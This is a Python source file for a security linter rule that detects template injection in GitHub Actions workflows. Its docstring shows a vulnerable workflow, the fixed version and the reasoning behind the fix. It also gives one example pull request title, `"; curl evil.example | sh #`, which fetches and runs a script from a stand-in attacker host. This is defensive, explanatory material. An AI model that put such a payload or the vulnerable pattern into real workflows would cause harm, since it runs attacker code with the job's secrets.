"""Text that strangers write is put into a shell script as it is.

## What it does
Reports `${{ … }}` in `run:` scripts, and in inputs of actions that run them as code such as those of
`actions/github-script`, whose value anybody can choose: titles and bodies of issues and pull requests, branch names
of forks, commit messages. Texts are followed through `env`, outputs of steps and jobs, the matrix, and inputs of the
repository's own actions and called workflows. Free-text inputs of manually started workflows are reported at a lower
severity. Texts whose origin is not known are reported at level `pedantic`, those the project decides at `auditor`.

## Why it matters
The runner pastes the text before the shell sees it. A pull request called `"; curl evil.example | sh #` runs that
with the job's token and secrets.

## Bad
```yaml title=".github/workflows/greet.yml"
name: greet
on:
  pull_request:
permissions:
  contents: read
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - name: Greet
        run: |
          echo "Thanks for ${{ github.event.pull_request.title }}"  # <-
          echo done
```

## Good
```yaml title=".github/workflows/greet.yml"
name: greet
on:
  pull_request:
permissions:
  contents: read
jobs:
  greet:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    steps:
      - name: Greet
        run: |
          echo "Thanks for ${PULL_REQUEST_TITLE}"
          echo done
        env:
          PULL_REQUEST_TITLE: ${{ github.event.pull_request.title }}
```

## Fix
Passes the text through an environment variable, which the shell never reads as code. Safe inside double quotes.
Outside of quotes the variable gets quotes, so that blanks no longer separate words: unsafe. In PowerShell and in
`actions/github-script` the variable is read as `$env:NAME` and `process.env.NAME`.

## References
- [GitHub: script injections](https://docs.github.com/en/actions/concepts/security/script-injections)

## Equivalent rules
- `zizmor:template-injection`
- `actionlint:expression`
- `poutine:injection`
"""

from collections.abc import Iterator
from typing import Final

from rollsafe.artefacts.expressions import Expr, Expression, context_path, find_expressions, flowing
from rollsafe.artefacts.github_workflow import Step
from rollsafe.artefacts.recognition.code_inputs import code_inputs
from rollsafe.formats.nodes import Scalar
from rollsafe.formats.scalar_text import script_offsets
from rollsafe.rules import Confidence, Finding, Level, Related, Safety, Severity, Span, rule
from rollsafe.rules.script_variables import PastedText, pass_as_variable
from rollsafe.workspace.graph import Graph
from rollsafe.workspace.untrusted_text import Origin, Whose, origin_of

_ZIZMOR: Final = ("zizmor:template-injection",)
_DETAIL: Final = (
    "the runner puts the text in before the shell reads the script, so quotes in it end quotes and "
    "commands in it run with the job's token and secrets"
)
_WHO: Final = {Whose.ANYBODY: "whoever opens it", Whose.DISPATCHER: "whoever starts the workflow"}


@rule(severity=Severity.ERROR, since="0.1.0", fix=Safety.SAFE)
def check(step: Step, graph: Graph) -> Iterator[Finding]:
    """Yield a finding for each text that is pasted into code."""
    for scalar in _scripts(step):
        if "${{" not in scalar.text or step.is_skipped:
            continue
        for expression in find_expressions(scalar.text):
            if not expression.problems:
                yield from _of_expression(step, scalar, expression, graph)


def _scripts(step: Step) -> Iterator[Scalar]:
    if step.run is not None:
        yield step.run
        return
    for name in code_inputs(step.uses_text):
        node = step.input(name)
        if isinstance(node, Scalar):
            yield node


def _of_expression(step: Step, scalar: Scalar, expression: Expression, graph: Graph) -> Iterator[Finding]:
    found = [(access, origin_of(access, step, graph)) for access in flowing(expression.root)]
    chosen = [(access, origin) for access, origin in found if origin.whose > Whose.FIXED]
    pasted = PastedText(step, scalar, expression)
    if not chosen:
        yield _harmless(pasted)
    for access, origin in chosen:
        yield _finding(pasted, access, origin, is_only=len(chosen) == 1)


def _harmless(pasted: PastedText) -> Finding:
    return Finding(
        pasted.place,
        f"`{pasted.text}` is pasted into the script of {_label(pasted.step)} as code",
        fixes=lambda: tuple(pass_as_variable(pasted)),
        severity=Severity.INFO,
        level=Level.AUDITOR,
        equivalents=_ZIZMOR,
        detail="nobody outside of the project decides this text; a variable cannot become code whatever it holds",
    )


def _finding(pasted: PastedText, access: Expr, origin: Origin, *, is_only: bool) -> Finding:
    step, whose = pasted.step, origin.whose
    at = script_offsets(step.file.text_for(pasted.scalar), pasted.scalar)
    place = pasted.place if is_only else Span(at(access.start), at(access.end))
    named = ".".join(context_path(access) or (pasted.text,))
    source = ".".join(origin.path) or named
    through = f" through `{named}`" if source != named else ""
    who = _WHO.get(whose)
    tail = f"{who} writes {_language(step)} here" if who else "whoever decides it writes code here"
    return Finding(
        place,
        f"`{source}` is pasted into the script of {_label(step)}{through}: {tail}",
        fixes=lambda: tuple(pass_as_variable(pasted)),
        related=tuple(Related(hop.file, hop.where, "the text comes through here") for hop in origin.hops[:4]),
        severity=_severity(whose),
        confidence=Confidence.HIGH if whose is Whose.ANYBODY else Confidence.MEDIUM,
        level=_level(step, whose),
        equivalents=_equivalents(origin, is_run=step.run is not None),
        detail=_DETAIL,
    )


def _severity(whose: Whose) -> Severity | None:
    if whose is Whose.ANYBODY:
        return None
    return Severity.WARNING if whose is Whose.DISPATCHER else Severity.INFO


def _level(step: Step, whose: Whose) -> Level | None:
    if whose is Whose.ANYBODY or (whose is Whose.DISPATCHER and step.uses is None):
        return None
    return Level.PEDANTIC


def _equivalents(origin: Origin, *, is_run: bool) -> tuple[str, ...] | None:
    """Return what the occurrence is called elsewhere; most tools know direct texts of strangers only."""
    if origin.whose is Whose.DISPATCHER and origin.path[:2] == ("github", "event") and not origin.hops:
        return (*_ZIZMOR, "poutine:injection")
    if origin.whose is not Whose.ANYBODY or origin.hops:
        return _ZIZMOR
    return None if is_run and len(origin.path) > 1 else (*_ZIZMOR, "poutine:injection")


def _language(step: Step) -> str:
    return "shell" if step.run is not None else "code"


def _label(step: Step) -> str:
    return f"`{step.name}`" if step.name else f"step {step.index + 1}"
